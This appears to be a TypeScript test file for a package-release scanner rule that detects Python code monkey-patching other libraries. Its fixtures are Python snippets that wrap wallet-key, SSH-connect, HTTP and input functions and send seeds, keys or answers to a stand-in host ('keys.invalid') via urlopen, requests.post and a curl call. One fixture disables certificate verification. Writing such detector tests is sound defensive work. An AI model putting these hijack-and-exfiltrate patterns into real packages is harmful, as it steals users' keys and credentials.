import { patchesOtherPackage } from '../../src/rules/patches-other-package.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const LEAK =
  'def leak(*given, **named):\n    urllib.request.urlopen("https://keys.invalid/?k=" + str(given))\n    return original(*given, **named)\n';
const KEYPAIR = `import urllib.request\nfrom solders.keypair import Keypair\noriginal = Keypair.from_seed\n${LEAK}Keypair.from_seed = leak\n`;

const ACTING: readonly { name: string; source: string; says: string }[] = [
  { name: 'an attribute that is assigned', source: KEYPAIR, says: 'solders.keypair.Keypair.from_seed' },
  {
    name: 'setattr',
    source: `import urllib.request, requests\noriginal = requests.get\n${LEAK}setattr(requests, "get", leak)\n`,
    says: 'replaces requests.get',
  },
  {
    name: 'through sys.modules',
    source: `import sys, urllib.request, requests\noriginal = requests.Session.send\n${LEAK}sys.modules["requests"].Session.send = leak\n`,
    says: 'replaces requests.Session.send',
  },
  {
    name: 'vars()',
    source: `import urllib.request, ssl\noriginal = ssl.wrap_socket\n${LEAK}vars(ssl)["wrap_socket"] = leak\n`,
    says: 'replaces ssl.wrap_socket',
  },
  {
    name: 'a wrapper that a function makes',
    source:
      'import requests, eth_account\ndef wrap(original):\n    def inner(self, *given):\n        account = original(self, *given)\n        requests.post("https://keys.invalid", data=account)\n        return account\n    return inner\neth_account.Account.from_key = wrap(eth_account.Account.from_key)\n',
    says: 'eth_account.Account.from_key',
  },
  {
    name: 'wrapt',
    source:
      'import wrapt, requests\ndef leak(wrapped, instance, args, kwargs):\n    requests.post("https://keys.invalid", data=args)\n    return wrapped(*args, **kwargs)\nwrapt.wrap_function_wrapper("paramiko", "SSHClient.connect", leak)\n',
    says: 'paramiko.SSHClient.connect',
  },
  {
    name: 'builtins',
    source:
      'import builtins, os\n_input = builtins.input\ndef ask(*given):\n    answer = _input(*given)\n    os.system("curl https://keys.invalid/?a=" + answer)\n    return answer\nbuiltins.input = ask\n',
    says: 'builtins.input',
  },
  {
    name: 'a whole module',
    source:
      'import sys, requests\nclass Fake:\n    def dumps(self, given):\n        requests.post("https://keys.invalid", data=given)\nsys.modules["jwt"] = Fake()\n',
    says: 'replaces jwt',
  },
];

const QUIET: readonly { name: string; source: string }[] = [
  {
    name: 'a socket by another one',
    source: 'import socket, socks\nsocket.socket = socks.socksocket\n',
  },
  {
    name: 'certificate checks',
    source: 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n',
  },
  {
    name: 'a function that only passes on',
    source:
      'import requests\n_get = requests.get\ndef get(url, **named):\n    return _get(url, timeout=5, **named)\nrequests.get = get\n',
  },
];

releaseTest(patchesOtherPackage, {
  flags: [
    ...ACTING.map(({ name, source, says }) => ({
      name: `${name}, whose replacement acts`,
      given: { base: wheel(), head: init(source) },
      level: 'block' as const,
      says,
    })),
    ...QUIET.map(({ name, source }) => ({
      name,
      given: { base: wheel(), head: init(source) },
      level: 'warn' as const,
    })),
    { name: 'when called', given: { base: wheel(), head: init(inFunction(KEYPAIR)) }, level: 'warn' },
    { name: 'a first release', given: { head: init(KEYPAIR) }, level: 'warn', says: 'what it puts there acts' },
  ],
  allows: [
    {
      name: 'its own module',
      given: { base: wheel(), head: init('import demo.core\ndef f(): pass\ndemo.core.run = f\n') },
    },
    {
      name: 'a setting',
      given: { base: wheel(), head: init('import requests\nrequests.adapters.DEFAULT_RETRIES = 5\n') },
    },
    {
      name: 'an attribute of an instance',
      given: { base: wheel(), head: init('import requests\ndef f(): pass\ns = requests.Session()\ns.send = f\n') },
    },
    {
      name: 'an older name for what is there',
      given: {
        base: wheel(),
        head: init(
          'import time, collections\ntime.clock = time.perf_counter\ncollections.Mapping = collections.abc.Mapping\n',
        ),
      },
    },
    {
      name: 'hooks that Python offers',
      given: {
        base: wheel(),
        head: init(
          'import sys, warnings, logging\ndef f(*given): pass\nsys.excepthook = f\nwarnings.showwarning = f\nlogging.Logger.trace = f\n',
        ),
      },
    },
    {
      name: 'what was there is put back',
      given: { base: wheel(), head: init('import socket\nbefore = socket.socket\nsocket.socket = before\n') },
    },
    {
      name: 'itself under its own name',
      given: { base: wheel(), head: init('import sys\nclass Lazy: pass\nsys.modules[__name__] = Lazy()\n') },
    },
    {
      name: 'event loops, when called',
      given: { base: wheel(), head: init(inFunction('import asyncio\ndef run(main): pass\nasyncio.run = run\n')) },
    },
    {
      name: 'another package of the same release',
      given: {
        base: wheel({ 'demo/__init__.py': '', 'demo_core/__init__.py': '' }),
        head: wheel({
          'demo/__init__.py': 'import demo_core\ndef f(): pass\ndemo_core.run = f\n',
          'demo_core/__init__.py': '',
        }),
      },
    },
    { name: 'what the base did too', given: { base: init(KEYPAIR), head: init(`V = 2\n${KEYPAIR}`) } },
    { name: 'in tests', given: { base: wheel(), head: wheel({ 'tests/test_demo.py': inFunction(KEYPAIR) }) } },
  ],
});
